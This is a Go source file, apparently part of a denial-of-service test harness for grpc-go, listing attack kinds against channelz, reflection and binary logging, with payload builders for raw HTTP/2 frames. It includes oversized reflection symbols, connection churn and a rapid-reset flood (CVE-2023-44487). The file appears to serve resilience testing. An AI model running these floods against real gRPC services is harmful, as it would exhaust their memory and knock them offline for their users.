// SPDX-License-Identifier: Apache-2.0

package kinds

import (
	"strings"

	"google.golang.org/protobuf/encoding/protowire"

	"google.golang.org/grpc/attack/internal/attacker"
	"google.golang.org/grpc/attack/internal/orders"
	"google.golang.org/grpc/attack/internal/wire"
)

var (
	channelzServe   = orders.Serve{Extra: orders.Channelz, MaxStreams: 100}
	reflectionServe = orders.Serve{Extra: orders.Reflection}
	logged          = []string{"GRPC_BINARY_LOG_FILTER=*"}
)

// Methods that answer more than they are asked.
const (
	channelzSockets = "/grpc.channelz.v1.Channelz/GetServerSockets"
	channelzServers = "/grpc.channelz.v1.Channelz/GetServers"
	channelzSocket  = "/grpc.channelz.v1.Channelz/GetSocket"
	reflects        = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
)

// told is what a program holds of its own for the answers that it makes.
const told = 64 << 10

// amplifierKinds are attacks with services that answer a few bytes with many, and with what logs.
var amplifierKinds = []Kind{
	{
		Name: "server/channelz/sockets", Serve: channelzServe, Extras: true,
		About:  "calls that ask for the sockets of servers, 1,000 connections are there",
		Spate:  100 * mib,
		Attack: askingWith(1000, channelzSockets, serverOne),
	},
	{
		Name: "server/channelz/sockets-unread", Serve: channelzServe, Extras: true,
		About:  "the same, nobody reads",
		Own:    200 * told,
		Attack: hold(4, false, asking(50, channelzSockets, serverOne)),
	},
	{
		Name: "server/channelz/sockets-behind", Serve: channelzServe, Extras: true,
		About:  "calls that ask for the sockets behind the last one, 2,000 connections are there",
		Attack: askingWith(2000, channelzSockets, append(varint(1, 1), varint(2, 1<<62)...)),
	},
	{
		Name: "server/channelz/servers-busy", Serve: channelzServe, Extras: true,
		About:  "calls that ask for the servers, 2,000 connections are there",
		Attack: askingWith(2000, channelzServers, nil),
	},
	{
		Name: "server/channelz/servers", Serve: channelzServe, Extras: true,
		About:  "calls that ask for the servers, from an id that does not exist on",
		Attack: flood(2, true, asked(channelzServers, varint(1, 1<<62))),
	},
	{
		Name: "server/channelz/socket-unknown", Serve: channelzServe, Extras: true,
		About:  "calls that ask for sockets that do not exist",
		Attack: flood(2, true, asked(channelzSocket, varint(1, 1<<62))),
	},
	{
		Name: "server/channelz/churn", Serve: channelzServe, Extras: true,
		About:  "connections that come and go, of each of which there is a record",
		Attack: churnOf(8, wire.Preface+settings),
	},
	{
		Name: "server/reflection/files", Serve: reflectionServe, Extras: true,
		About:  "requests of 45 bytes for the file of a type, again and again on 10 streams, answers are read",
		Attack: requestsOn(10, true, reflects, text(4, "google.protobuf.FileDescriptorProto")),
	},
	{
		Name: "server/reflection/files-unread", Serve: reflectionServe, Extras: true,
		About:  "the same on 100 streams in windows of 0",
		Own:    100 * poured,
		Attack: requestsOn(100, false, reflects, text(4, "google.protobuf.FileDescriptorProto")),
	},
	{
		Name: "server/reflection/unknown", Serve: reflectionServe, Extras: true,
		About:  "requests for a symbol that does not exist, of 10 KB, which errors may repeat",
		Attack: requestsOn(10, true, reflects, text(4, bytesOf(10<<10))),
	},
	{
		Name: "server/reflection/parts", Serve: reflectionServe, Extras: true, Short: true,
		Spate:  64 * mib, // requests, their strings and the answers that repeat them; the published server takes a request in seconds
		About:  "requests for a symbol of 30,000 parts, each of whose beginnings a registry looks for",
		Attack: requestsOn(10, true, reflects, text(4, strings.Repeat("a.", 30_000)+"a")),
	},
	{
		Name: "server/reflection/parts-of-type", Serve: reflectionServe, Extras: true,
		About:  "requests for the extensions of a type of as many parts",
		Attack: requestsOn(10, true, reflects, text(6, strings.Repeat("a.", 30_000)+"a")),
	},
	{
		Name: "server/reflection/services", Serve: reflectionServe, Extras: true,
		About:  "requests for the list of services",
		Attack: requestsOn(10, true, reflects, text(7, "*")),
	},
	{
		Name: "server/binlog/headers", Extras: true, Env: logged,
		About:  "calls with 200 fields of metadata to a server that logs everything",
		Attack: flood(2, true, request(append(wire.Request(orders.Keeps), appendMany(nil, 200, "x", "value")...))),
	},
	{
		Name: "server/binlog/tiny", Extras: true, Env: logged,
		About:  "messages of one byte, as many as windows take, to a server that logs everything",
		Attack: hold(8, true, bodies(50, orders.Sink, messages([]byte{0}))),
	},
	{
		Name: "server/binlog/rapid", Extras: true, Env: logged, Serve: limited,
		About:  "calls that are reset at once, to a server that logs everything (CVE-2023-44487)",
		Attack: flood(4, true, headersThenReset(slowCall, true)),
	},
	{
		Name: "server/binlog/amplified", Extras: true, Env: logged, Serve: limited,
		About:  "one-byte references to an entry of 4 KB, to a server that logs everything",
		Own:    4 * 16 * mib, // what is logged at the moment
		Spate:  100 * 16 * mib,
		Attack: flood(1, true, amplify(1)),
	},
	{
		Name: "client/binlog/answers", Extras: true, Env: logged, Work: streams(orders.Pour, 100),
		About:  "messages of one byte, as many as windows take, for clients that log everything",
		Attack: serveStreams(begin(messages([]byte{0}))),
	},
}

// serverOne asks for the sockets of server 1, and of others.
var serverOne = varint(1, 1)

func varint(field protowire.Number, v uint64) []byte {
	return protowire.AppendVarint(protowire.AppendTag(nil, field, protowire.VarintType), v)
}

func text(field protowire.Number, v string) []byte {
	return protowire.AppendString(protowire.AppendTag(nil, field, protowire.BytesType), v)
}

// asked is a round of a call with a message.
func asked(path string, m []byte) script {
	block, body := wire.Request(path), wire.AppendMessage(nil, 0, m)
	return func(c *attacker.Conn) error {
		id := c.Stream()
		return first(c.Headers(id, 0, block), c.Data(id, wire.EndStream, body))
	}
}

// asking makes n calls with a message.
func asking(n int, path string, m []byte) script {
	round := asked(path, m)
	return func(c *attacker.Conn) error {
		if err := c.Window(0, 1<<31-1-window); err != nil {
			return err
		}
		for range n {
			if err := round(c); err != nil {
				return err
			}
		}
		return nil
	}
}

// askingWith calls again and again while n connections are there.
func askingWith(n int, path string, m []byte) attack {
	return func(a *attacker.Attacker) error {
		if err := a.Conns(n, func(c *attacker.Conn) error { return nil }); err != nil {
			return err
		}
		return a.Conns(2, func(c *attacker.Conn) error {
			c.Drain(func(f wire.Frame) {})
			return repeat(c, func(c *attacker.Conn) error { return first(asked(path, m)(c), c.Window(0, 64<<10), c.Flush()) })
		})
	}
}

// requestsOn sends a message again and again on n streams of a connection, whose answers are read, or
// find windows of 0.
func requestsOn(n int, reads bool, path string, m []byte) attack {
	body := wire.AppendMessage(nil, 0, m)
	return func(a *attacker.Attacker) error {
		return a.Conns(1, func(c *attacker.Conn) error {
			c.Drain(nil)
			if !reads {
				if err := c.Settings(wire.Setting{ID: wire.InitialWindowSize, Value: 0}); err != nil {
					return err
				}
			}
			ids, err := openBlock(c, n, wire.Request(path))
			if err != nil {
				return err
			}
			for round := 0; !c.Over() && (reads || round*len(body) < window/2); round++ {
				for _, id := range ids {
					err := c.Data(id, 0, body)
					if err == nil && reads {
						err = first(c.Window(id, 16<<10), c.Window(0, 16<<10))
					}
					if err != nil {
						return err
					}
				}
				if err := c.Flush(); err != nil {
					return err
				}
			}
			a.Sleep(a.Left() / 2)
			return nil
		})
	}
}
